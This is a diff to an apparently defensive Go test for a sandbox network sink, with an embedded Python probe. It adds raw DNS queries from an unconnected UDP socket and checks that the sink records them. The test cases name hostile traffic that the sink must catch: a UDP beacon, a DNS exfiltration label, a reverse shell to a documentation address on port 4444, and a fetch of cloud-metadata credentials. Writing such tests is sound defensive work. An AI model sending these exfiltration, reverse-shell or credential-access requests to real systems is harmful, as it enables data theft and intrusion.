@@ -16,7 +16,9 @@ import (
 // that serves one: every name resolves into 198.18.0.0/15, HTTP is
 // answered, TLS is terminated with the run's CA (which the sandbox's
 // system store trusts) and read in clear, raw TCP and UDP are accepted
-// and recorded, a DNS label is recorded whole, the metadata address
+// and recorded, a DNS label is recorded whole, a raw query from an
+// unconnected UDP socket is answered (to the nameserver and to any
+// address's port 53), the metadata address
 // answers with the run's fake credentials (a credential-access finding on
 // the sink's evidence), and the sandbox's 127.0.0.1 is its own: a
 // listener on the host's loopback gets nothing. Each is asserted on the
@@ -42,6 +44,22 @@ s.close()
 
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 u.sendto(b"beacon", ("198.51.100.7", 9999))
+
+# A raw DNS query from an unconnected socket (sendto, then recv), to the
+# resolv.conf nameserver and to an address of the world's: the sink's
+# reply must reach it, not be steered back to the sink.
+import struct
+ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+for i, a in enumerate((ns, "192.0.2.53")):
+    q = struct.pack(">HHHHHH", 0x4d00 + i, 0x0100, 1, 0, 0, 0) + b"\x04rawq\x07example\x00" + struct.pack(">HH", 1, 1)
+    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    d.settimeout(10)
+    d.sendto(q, (a, 53))
+    try:
+        r = d.recv(512)
+        print("raw dns", i, "answered" if r[:2] == q[:2] else "mismatched")
+    except OSError as e:
+        print("raw dns", i, "unanswered", e)
 
 print("dns", socket.gethostbyname("%s.exfil.example"))
 
@@ -76,7 +94,7 @@ except OSError:
 	if res.Status != moat.StatusExited || res.ExitCode != 0 {
 		t.Fatalf("the program failed:\n%s", dump())
 	}
-	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "aws ASIA", "loopback refused"} {
+	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "aws ASIA", "loopback refused", "raw dns 0 answered", "raw dns 1 answered"} {
 		if !strings.Contains(res.Stdout, w) {
 			t.Errorf("stdout lacks %q", w)
 		}
@@ -92,6 +110,7 @@ except OSError:
 		{"reverse shell", moat.KindConnect, []string{"203.0.113.9:4444", "sinkholed tcp", `id\n`}},
 		{"udp", moat.KindConnect, []string{"198.51.100.7:9999", "sinkholed udp", "beacon"}},
 		{"dns exfil label", "dns", []string{sinkLabel + ".exfil.example"}},
+		{"raw dns from an unconnected socket", "dns", []string{"rawq.example"}},
 		{"metadata", moat.KindMetadata, []string{"169.254.169.254:80", "served fake instance credentials"}},
 	} {
 		if !hasNetEvent(res, c.kind, c.want...) {
